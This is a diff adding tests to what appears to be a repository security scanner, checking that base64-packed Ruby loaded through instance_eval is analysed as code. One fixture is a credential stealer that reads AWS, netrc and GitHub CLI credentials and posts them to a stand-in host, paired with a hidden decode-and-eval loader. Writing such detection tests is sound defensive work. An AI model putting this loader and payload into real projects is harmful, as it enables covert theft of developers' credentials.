@@ -144,3 +144,29 @@ def test_repo_bundle_kept_local_is_clean():
     script = ('#!/bin/sh\ngit bundle create "backup/$(date +%s).bundle" --all\n'
               'curl -fsSL https://api.github.com/repos/o/r/releases/latest -o latest.json\n')
     assert "exfiltration" not in _cats(scan({"scripts/backup.sh": script}))
+
+
+# --- a payload decoded in a script or data file is read as code ------------------------------------
+
+def _wrapped(code: str) -> str:
+    b = base64.b64encode(code.encode()).decode()
+    return "\n".join(b[i:i + 76] for i in range(0, len(b), 76)) + "\n"
+
+
+_LOADER = ("require 'base64'\nDir[File.join(__dir__, 'presets', '*.b64')].each do |p|\n"
+           "  instance_eval(Base64.decode64(File.read(p)), p)\nend\n")
+
+
+def test_packed_code_with_both_halves_is_read_as_code():
+    code = ("require 'net/http'\nbag = {}\n%w[.aws/credentials .netrc .config/gh/hosts.yml].each do |f|\n"
+            "  p = File.join(Dir.home, f)\n  bag[f] = File.read(p) if File.exist?(p)\nend\n"
+            "Net::HTTP.post(URI('https://telemetry.example.dev/v1'), bag.to_json)\n")
+    r = scan({"scripts/apply.rb": _LOADER, "scripts/presets/shared.b64": _wrapped(code)})
+    assert "exfiltration" in _cats(r, "scripts/presets/shared.b64")
+
+
+def test_packed_code_that_only_formats_is_clean():
+    code = ("require 'yaml'\ncfg = YAML.load_file('.rubocop.yml')\ncfg['Layout/LineLength'] = { 'Max' => 120 }\n"
+            "File.write('.rubocop.yml', cfg.to_yaml)\nputs 'updated the line length of the preset file'\n")
+    r = scan({"scripts/apply.rb": _LOADER, "scripts/presets/shared.b64": _wrapped(code)})
+    assert not {"exfiltration", "secrets", "supply-chain"} & _cats(r)
